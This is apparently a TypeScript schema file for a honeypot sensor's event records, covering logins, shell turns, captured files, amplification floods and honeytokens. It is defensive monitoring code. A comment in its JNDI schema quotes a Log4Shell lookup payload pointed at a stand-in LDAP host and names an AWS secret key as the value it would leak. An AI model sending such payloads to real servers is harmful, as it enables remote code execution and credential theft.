import { z } from 'zod'
import { Evidence } from './bytes.ts'

/** Where an answer came from. Every answer that an attacker got carries exactly one. */
export const AnswerSource = z.enum(['static', 'cache', 'llm', 'pin', 'fallback'])
export type AnswerSource = z.infer<typeof AnswerSource>

/** What the engine knows of one generated answer; absent parts were not involved. Times in ms, sizes in tokens. */
export const Generation = z.object({
  persona: z.string().optional(),
  /** Short hash of persona.yaml and the prompt text that was in force. */
  promptVersion: z.string().optional(),
  /** The question as the engine knew it: what a pin for it is filed under. */
  question: z.object({ kind: z.string(), key: z.string() }).optional(),
  backend: z.string().optional(),
  model: z.string().optional(),
  queuedMs: z.number().optional(),
  firstTokenMs: z.number().optional(),
  totalMs: z.number().optional(),
  promptTokens: z.number().optional(),
  cachedTokens: z.number().optional(),
  outputTokens: z.number().optional(),
  /** Names of guard rules that fired on the way to this answer, e.g. `refusal`, `markdown-fence`. */
  guard: z.array(z.string()).optional(),
  /** What went wrong on the way, in words for the operator; never shown to an attacker. */
  trouble: z.string().optional(),
})
export type Generation = z.infer<typeof Generation>

/** One captured file: stored once under its SHA-256, whatever its name was. */
export const Artifact = z.object({
  sha256: z.string().length(64),
  sha1: z.string().length(40),
  md5: z.string().length(32),
  /** Bytes that the attacker sent; more than were kept when `truncated`. */
  size: z.number().int().nonnegative(),
  truncated: z.boolean(),
  /** Type by the first bytes, e.g. `elf`, `zip`, `script`, `text`, `data`. */
  magic: z.string(),
})
export type Artifact = z.infer<typeof Artifact>

/** What became of a place that a broker was led to: fetched, fetched elsewhere, only written down, forbidden by its guard, or without success. */
export const FollowedOutcome = z.enum(['kept', 'moved', 'recorded', 'refused', 'failed'])
export type FollowedOutcome = z.infer<typeof FollowedOutcome>

/** The events that the sensor itself knows. A lure declares its own beside these, see `defineLure`. */
/** A flood over UDP whose sources are forged: `victim` is an address, a network (`/24`, `/48`), or `*` for more than can be told apart. */
const Flood = z.object({
  /** Name of the lure that was to amplify. */
  vector: z.string(),
  /** What most of the packets asked for, in the word of its protocol: `MON_GETLIST_1`, `any`, `ssdp:all`. */
  request: z.string().optional(),
  victim: z.string(),
  /** The same for all floods that meet this victim within ten minutes of each other, over whatever protocol. */
  attack: z.string().optional(),
  packets: z.number(),
  bytes: z.number(),
  /** What left. */
  answeredBytes: z.number(),
  /** What a server without a governor would have sent to the victim, and how many times the bytes that came that is. */
  potentialBytes: z.number(),
  amplification: z.number(),
  /** Packets in the busiest second. */
  perSecond: z.number(),
  durationMs: z.number(),
})

export const coreEvents = {
  'session.open': z.object({ client: Evidence.optional() }),
  'session.close': z.object({
    durationMs: z.number(),
    bytesIn: z.number(),
    bytesOut: z.number(),
    reason: z.enum(['attacker', 'lure', 'limit', 'fault', 'shutdown']),
  }),
  login: z.object({
    method: z.string(),
    username: Evidence,
    password: Evidence.optional(),
    /** A challenge and response as hashcat reads them, with its mode number. */
    hash: z.object({ mode: z.number(), line: z.string() }).optional(),
    /** Public key as OpenSSH prints it: `SHA256:…`. */
    fingerprint: z.string().optional(),
    accepted: z.boolean(),
  }),
  /** One turn of the transcript. */
  turn: z.object({
    input: Evidence,
    output: Evidence,
    /** Output is cut for the event at a bound; then this is its whole length in bytes. */
    outputBytes: z.number().optional(),
    stderr: Evidence.optional(),
    source: AnswerSource,
    exitCode: z.number().optional(),
    durationMs: z.number(),
    generation: Generation.optional(),
    /** Name of the lure's own form of the turn: `shell`, `web`. */
    kind: z.string(),
    detail: z.record(z.string(), z.unknown()).optional(),
  }),
  artifact: Artifact.extend({ name: Evidence.optional(), how: z.string(), url: Evidence.optional() }),
  /** Something an attacker pointed at: a URL to fetch, a host to dial, a look-up. Never followed. */
  indicator: z.object({ kind: z.enum(['url', 'host', 'address', 'email', 'wallet', 'key']), value: Evidence, how: z.string() }),
  /** What became of an indicator that was handed to the operator's broker of samples; its files are `artifact` events, how `broker`. */
  sample: z.object({
    target: Evidence,
    outcome: z.enum(['kept', 'nothing', 'refused', 'late', 'unreadable']),
    /** Why it was refused or not read, in words for the operator. */
    reason: z.string().optional(),
    /** The event that pointed at the target. */
    indicator: z.uuidv7(),
    files: z.array(z.object({ sha256: z.string(), size: z.number(), url: Evidence })),
    /** The target and what it led to, in the order in which the broker took them, when it says so. */
    urls: z.array(z.object({ url: Evidence, outcome: FollowedOutcome, reason: z.string().optional() })).optional(),
  }),
  /** A JNDI lookup (Log4Shell) found in what an attacker sent, over whatever protocol and in whatever disguise. Never made. */
  'jndi.lookup': z.object({
    /** Which part of the input: `username`, `header X-Api-Version`, `body`. */
    where: z.string(),
    raw: Evidence,
    /** Without its disguises: `${jndi:ldap://x.example:1389/a}`. */
    resolved: Evidence,
    scheme: z.string(),
    host: Evidence,
    port: z.number().optional(),
    path: Evidence,
    /** What the target would have been made to run, where its path says so. */
    command: Evidence.optional(),
    /** Values of the machine that the lookup would have told: `env:AWS_SECRET_ACCESS_KEY`. */
    asksFor: z.array(z.string()),
  }),
  /** A client's fingerprint, e.g. `hassh`, `ja4`, `ja4h`. */
  fingerprint: z.object({ kind: z.string(), value: z.string(), raw: z.string().optional() }),
  /** A bound of the sensor ended or refused something. */
  limit: z.object({ limit: z.string(), allowed: z.number().optional(), saw: z.number().optional() }),
  /** A secret that a source was shown has come back, from it or from somebody else; the envelope says from whom. */
  'honeytoken.returned': z.object({
    kind: z.string(),
    /** What it opens: a user, a service. */
    name: z.string(),
    /** Persona or lure that it belongs to. */
    owner: z.string(),
    /** Where it was read: a path of the host, a part of a lure. */
    place: z.string(),
    value: z.string(),
    /** Address that it was shown to, and when, UTC milliseconds. */
    mintedFor: z.string(),
    mintedAt: z.number(),
    /** `login`, `command`, `request`, or the type of the event. */
    how: z.string(),
    /** Path of the field in the event `seenIn`. */
    field: z.string(),
    seenIn: z.string(),
  }),
  'lure.fault': z.object({ message: z.string(), stack: z.string().optional(), lastBytes: Evidence.optional() }),
  /** A datagram that was answered or withheld, counted rather than listed while a flood lasts. */
  datagram: z.object({ request: Evidence, requestBytes: z.number(), answerBytes: z.number(), withheld: z.string().optional() }),
  /** The first packets of a flood are listed as well; later ones are counted here only. */
  'flood.start': Flood,
  'flood.update': Flood,
  'flood.end': Flood,
  /** A rule of the operator found enough sessions; `sessions` are the latest. */
  alert: z.object({ rule: z.string(), group: z.string(), count: z.number(), sessions: z.array(z.string()), time: z.number() }),
  'sensor.start': z.object({ version: z.string(), profile: z.string(), lures: z.number() }),
  /** Said once a minute, so that a hive knows who is there though nobody attacks. `behindMs`: age of the oldest event that the hive lacks. */
  'sensor.status': z.object({
    version: z.string(),
    startedAt: z.number(),
    lures: z.number(),
    ports: z.number(),
    connections: z.number(),
    memoryBytes: z.number(),
    behindMs: z.number(),
    trouble: z.string().optional(),
  }),
  'sensor.stop': z.object({ reason: z.string() }),
} satisfies Record<string, z.ZodType>

export type CoreEvents = typeof coreEvents

/** Event types a lure declares: name → schema of its data. */
export type EventSchemas = Record<string, z.ZodType>

/** Tag of a technique, vulnerability or canary that a rule or a lure recognised, e.g. `attack:T1110`, `cve:CVE-2021-44228`. */
export const Tag = z.string().regex(/^(attack|cve|canary|scanner|agent|note):.{1,100}$/)

/** What every event carries, whatever its type. */
export const Envelope = z.object({
  id: z.uuidv7(),
  /** UTC milliseconds since 1970. */
  time: z.number().int(),
  sensor: z.string(),
  /** Visits that belong together share it; absent for events of the sensor itself. */
  session: z.uuidv7().optional(),
  lure: z.string().optional(),
  standsFor: z.array(z.string()).optional(),
  persona: z.string().optional(),
  transport: z.enum(['tcp', 'udp']).optional(),
  srcIp: z.string().optional(),
  srcPort: z.number().int().optional(),
  dstIp: z.string().optional(),
  dstPort: z.number().int().optional(),
  tags: z.array(Tag).optional(),
  type: z.string(),
  data: z.record(z.string(), z.unknown()),
})
export type SundewEvent = z.infer<typeof Envelope>
